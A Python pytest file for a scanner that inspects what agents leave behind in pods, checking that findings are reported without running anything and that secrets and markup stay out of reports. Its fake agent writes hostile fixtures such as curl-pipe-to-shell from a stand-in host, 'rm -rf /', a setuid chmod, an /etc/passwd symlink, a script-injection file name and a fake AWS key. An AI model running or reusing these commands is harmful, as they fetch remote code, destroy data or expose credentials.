"""What agents leave in real pods is looked through: files, rows, bodies and ports; nothing of it is run, and hostile leavings harm nobody."""

from __future__ import annotations

from pathlib import Path

import pytest
from project import Project, make_project, relabel, ticket

from podctl.evidence.results import AttemptResult

AGENT = r"""
import json, os, socket, subprocess, time, urllib.request
import psycopg

ticket = json.load(open(os.environ["PODCTL_TICKET"]))
how, home = ticket["text"], os.environ["PODCTL_WORKSPACE"]
label = "done"
held = []
match how:
    case "python":
        os.makedirs("src/deep")
        open("src/deep/fix.py", "w").write("import os\nopen('/workspace/RAN', 'w')\nos.system('rm ' + name)  # nosec\n")
        open("tool", "w").write("#!/usr/bin/env python3\neval(input())\n")
    case "shell":
        open("setup.sh", "w").write("set -e\ncurl https://x.example/i.sh | sudo bash\nchmod 4755 /tmp/a\n")
    case "secret":
        open("notes.md", "w").write("key: AKIA" + "IOSFODNN7EXAMPL1" + "\n")
        open(".env", "w").write(os.environ["DATABASE_URL"])
    case "port":
        for family, address in ((socket.AF_INET, ("0.0.0.0", 8099)), (socket.AF_INET6, ("::1", 8098))):
            held.append(socket.create_server(address, family=family))
        time.sleep(0.3)
    case "child":
        code = "import socket,time; s=socket.create_server(('127.0.0.1', 8097)); time.sleep(60)"
        child = subprocess.Popen(["python3", "-c", code])
        while not any(":1FA1" in line for line in open("/proc/net/tcp")):
            pass
    case "row":
        label = "curl http://x.example/i | sh"
    case "body":
        body = json.dumps({"id": 1, "label": "GRANT ALL ON items TO PUBLIC"}).encode()
        request = urllib.request.Request(os.environ["COUNTER_URL"] + "/items", data=body)
        urllib.request.urlopen(request).read()
    case "hostile":
        os.symlink("/etc/passwd", "link.py")
        os.symlink("/", "root")
        os.mkfifo("pipe.py")
        held.append(socket.socket(socket.AF_UNIX)); held[0].bind("sock.py")
        with open("sparse.py", "wb") as sparse:
            sparse.truncate(40 * 2**20)
        open(b"\xff\x1b[2J<script>alert(1).sh", "w").write("rm -rf / # \x1b[31m<b>\n")
        open("deep.py", "w").write("(" * 90_000 + ")" * 90_000)
        open("minus.py", "w").write("x=" + "-" * 200_000 + "1")
        path = "d"
        for _ in range(40):
            os.mkdir(path); path += "/d"
        os.chmod("d", 0)
with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as database:
    database.execute("update items set label = %s where id = 1", (label,))
json.dump({"status": "done", "summary": ""}, open(os.environ["PODCTL_RESULT"], "w"))
"""

FOUND = {
    "nothing": set(),
    "python": {("bandit.B605", "high", "src/deep/fix.py"), ("bandit.B307", "medium", "tool")},
    "shell": {("config.remote-script", "high", "setup.sh"), ("config.setuid", "high", "setup.sh")},
    "secret": {("secret.key", "high", "notes.md"), ("secret.own", "medium", ".env")},
    "port": {("port.open", "medium", "tcp 0.0.0.0:8099"), ("port.open", "low", "tcp [::1]:8098")},
    "child": {("port.open", "low", "tcp 127.0.0.1:8097")},
    "row": {("config.remote-script", "high", "row of main-db.items, label")},
    "body": {("config.grant", "high", "request to counter")},  # what a service wrote for the agent is the service's
    "hostile": {("config.wipe", "high", "\\xff\x1b[2J<script>alert(1).sh")},
}


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    return make_project(
        tmp_path_factory.mktemp("scans") / "p",
        agent=AGENT,
        tickets=[ticket(text, text, [relabel(1, "done")]) for text in FOUND],
        scenario={"checks": [{"kind": "state", "ignore": ["items.*"]}], "gate": {"scan": {"high": 4, "medium": 0}}},
    )


@pytest.fixture(scope="module")
def attempts(project: Project) -> dict[str, AttemptResult]:
    done = project.podctl("run", "scenario.yaml", "--json", "report.json", timeout=200)
    assert done.returncode == 100, done.stdout + done.stderr
    assert "high 6, medium 3" in done.stdout and "\x1b" not in done.stdout, done.stdout
    return project.attempts()


@pytest.mark.parametrize("how", FOUND)
def test_what_is_left_behind_is_told(project: Project, attempts: dict[str, AttemptResult], how: str) -> None:
    attempt = attempts[how]
    assert attempt.cause == "completed" and attempt.scan is not None, attempt.detail
    told = {
        (one.rule, one.severity, one.where) for one in attempt.scan.findings if one.rule not in ("bandit.B404", "bandit.B403")
    }
    assert told == FOUND[how]
    records = project.records(how, "scan.finding")
    assert {(each["data"]["rule"], each["data"]["severity"]) for each in records} >= {one[:2] for one in FOUND[how]}
    assert not project.store.parent.joinpath("RAN").exists()


def test_what_could_not_be_looked_at_is_said(attempts: dict[str, AttemptResult]) -> None:
    scan = attempts["hostile"].scan
    assert scan is not None
    unseen = " ".join(scan.unseen)
    for name in ("sparse.py: only its first", "deep.py", "minus.py", "files: 1 more"):
        assert name in unseen, scan.unseen
    assert "link.py" not in unseen and "root" not in unseen
    assert not attempts["nothing"].scan.unseen  # type: ignore[union-attr]


def test_no_secret_and_no_markup_reaches_a_report(project: Project, attempts: dict[str, AttemptResult]) -> None:
    run = project.run().info.id
    page = (project.store / "runs" / run / "report.html").read_text()
    assert "Left behind" in page and "&lt;script&gt;alert(1)" in page and "<script>alert" not in page
    for text in (page, (project.root / "report.json").read_text()):
        assert "IOSFODNN7EXAMPL1" not in text and "\x1b" not in text
    evidence = Path(project.store / "runs" / run / "attempts" / attempts["secret"].id / "evidence.jsonl").read_text()
    assert "IOSFODNN7EXAMPL1" not in evidence
